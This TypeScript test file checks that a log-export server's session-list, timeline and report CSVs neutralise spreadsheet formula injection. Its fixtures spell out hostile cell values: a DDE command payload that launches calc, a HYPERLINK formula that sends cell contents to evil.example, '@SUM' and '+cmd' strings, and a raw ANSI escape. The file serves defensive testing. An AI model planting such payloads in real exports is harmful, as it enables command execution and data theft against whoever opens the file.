// CSV formula injection, over a real serve, in every CSV the project writes: the session list, a session's timeline
// and the report CSV. The old check (`!/^-?\d/`) let `-2+3+cmd|' /C calc'!A0` through, and raw ESC bytes went into
// cells. Per OWASP's CSV Injection guidance, text starting with = + - @ tab or CR gets a leading single quote.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { ensureBuilt, startServe, stop, type Running } from '../helpers/exporter.js';
import { claudeLine, rawRequest, workspace } from './helpers.js';

const ws = workspace('csv');
const FORMULA = "-2+3+cmd|' /C calc'!A0";
let serve: Running;
const host = () => ({ host: `127.0.0.1:${serve.port}` });

/** Parses RFC 4180 CSV (quoted cells, doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += c;
  }
  return rows;
}

/** A spreadsheet runs a cell as a formula when its text starts with one of these (after blanks). */
const runsAsFormula = (cell: string): boolean => /^[\s\u0000-\u001f]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) || /^[\t\r]/.test(cell);

before(async () => {
  ensureBuilt();
  // The project comes from the working folder's name, the session id from the log: both are the log writer's text.
  ws.write('claude/p/s.jsonl', [
    claudeLine({ session: FORMULA, ts: '2026-04-01T10:00:00.000Z', msgId: 'm1', cwd: '/w/=HYPERLINK("http:evil.example?"&A1,"x")', content: [{ type: 'tool_use', id: 't1', name: '-2+3+cmd', input: {} }] }),
    claudeLine({ session: '\u001b[31m@SUM(1+1)', ts: '2026-04-01T10:01:00.000Z', msgId: 'm2', cwd: '/w/+cmd', content: [{ type: 'text', text: 'x' }] }),
  ].join('\n') + '\n');
  serve = await startServe(['--claude-dir', ws.path('claude'), '--state-dir', ws.path('state')]);
});

after(async () => {
  if (serve) await stop(serve, 'SIGKILL');
  ws.cleanup();
});

describe('CSV exports', () => {
  it('the session list: no cell runs as a formula, no ESC byte, the text is kept after the quote', async () => {
    const r = await rawRequest(serve.port, '/api/v1/sessions?format=csv&sort=started&order=asc', { headers: host() });
    assert.equal(r.status, 200);
    assert.ok(!r.body.includes('\u001b'), 'no raw ESC byte');
    const rows = parseCsv(r.body);
    assert.equal(rows.length, 3);
    const cells = rows.slice(1).flat();
    assert.deepEqual(cells.filter(runsAsFormula), []);
    const col = (name: string) => rows[0]!.indexOf(name);
    assert.equal(rows[1]![col('sessionId')], `'${FORMULA}`);
    assert.equal(rows[1]![col('project')], `'=HYPERLINK("http:evil.example?"&A1,"x")`);
    assert.equal(rows[2]![col('sessionId')], '\ufffd[31m@SUM(1+1)', 'ESC becomes U+FFFD (the cell then starts with no formula sign)');
    assert.equal(rows[1]![col('requests')], '1', 'numbers stay numbers');
  });

  it("a session's timeline CSV", async () => {
    const r = await rawRequest(serve.port, `/api/v1/sessions/${encodeURIComponent(`claude-code:${FORMULA}`)}?format=csv`, { headers: host() });
    assert.equal(r.status, 200);
    const rows = parseCsv(r.body);
    assert.ok(rows.some((row) => row.includes("'-2+3+cmd")), 'the tool named by the log is there, neutralized');
    assert.deepEqual(rows.slice(1).flat().filter(runsAsFormula), []);
  });

  it('the report CSV: project rows named by the log writer do not run', async () => {
    const r = await rawRequest(serve.port, '/api/v1/reports/preview', { method: 'POST', headers: { ...host(), 'content-type': 'application/json' }, body: JSON.stringify({ template: 'daily', format: 'csv', from: '2026-04-01T00:00:00Z', to: '2026-04-02T00:00:00Z' }) });
    assert.equal(r.status, 200, r.body);
    const rows = parseCsv(r.body);
    assert.ok(rows.some((row) => row.some((c) => c.startsWith("'_HYPERLINK") || c.startsWith("'+cmd"))), 'the projects are in the report');
    assert.deepEqual(rows.flat().filter(runsAsFormula), []);
  });
});
